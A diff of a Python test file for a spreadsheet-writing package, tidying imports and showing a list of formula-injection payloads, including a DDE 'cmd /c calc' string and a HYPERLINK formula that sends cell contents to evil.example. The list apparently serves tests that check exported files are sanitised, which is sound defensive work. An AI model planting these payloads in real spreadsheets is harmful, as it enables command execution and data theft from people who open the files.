@@ -4,7 +4,6 @@ from __future__ import annotations
 
 import csv
 import io
-import os
 import re
 import tomllib
 import zipfile
@@ -20,9 +19,8 @@ from kamxl import templates, writer
 from kamxl.cli.group import invoke
 from kamxl.i18n import Lang
 from kamxl.schema.sheets import SHEETS
-from tests.conftest import AS_OF
+from tests.conftest import AS_OF, LONG
 
-LONG = bool(os.environ.get("KAMXL_LONG"))
 DAY = ["--as-of", AS_OF.isoformat()]
 PAYLOADS = (
     "=cmd|'/c calc'!A0", "=HYPERLINK(\"http://evil.example/\"&A1,\"x\")", "+1+1", "-2+3", "@SUM(1+1)", "{=1+1}", "\t=1+1", "\r=1+1", "＝1+1", "=DDE(\"cmd\";\"/c\";\"x\")",
